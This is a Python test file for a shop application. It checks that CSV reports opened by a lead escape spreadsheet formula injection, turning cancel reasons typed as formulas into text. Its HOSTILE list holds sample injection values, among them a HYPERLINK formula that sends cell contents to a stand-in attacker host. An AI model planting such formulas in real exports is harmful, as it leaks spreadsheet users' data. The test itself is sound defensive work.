"""Report CSVs a lead opens in a spreadsheet never carry a formula typed by an
agent (or any user name): such cells are written as text."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

from core.spreadsheet_cells import safe_cell
from tests.server.desk_ops import claim, push_op
from tests.server.shop import Shop

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Détails")',
    "+33 6 12",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1dHYPERLINK(1)",
]


def test_spreadsheet_formulas_become_text_and_numbers_stay_numbers() -> None:
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for value in ("-12", "-3,5", "Client content", "", 42, -3.5, None):
        assert safe_cell(value) == value


def test_a_cancel_reason_typed_as_a_formula_is_text_in_the_cancel_reasons_csv(
    shop: Shop,
) -> None:
    agent = shop.agents[0]
    for order_id, reason in zip(shop.order_ids, HOSTILE[:3], strict=False):
        epoch = claim(agent.client, order_id)
        push_op(agent.client, "start", order_id, {}, epoch=epoch)
        result = push_op(agent.client, "cancel", order_id, {"reason": reason}, epoch=epoch)
        assert result["status"] == "applied", result
    today = date.today()  # the report's days are the shop's; a day either side covers both
    days = {
        "from": (today - timedelta(days=1)).isoformat(),
        "to": (today + timedelta(days=1)).isoformat(),
    }
    answer = shop.lead.client.get("/reports/cancel-reasons.csv", params=days)
    assert answer.status_code == 200, answer.text
    text = answer.content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in "=+-@\t\r\uff1d"], cells
    assert "'" + HOSTILE[0] in cells
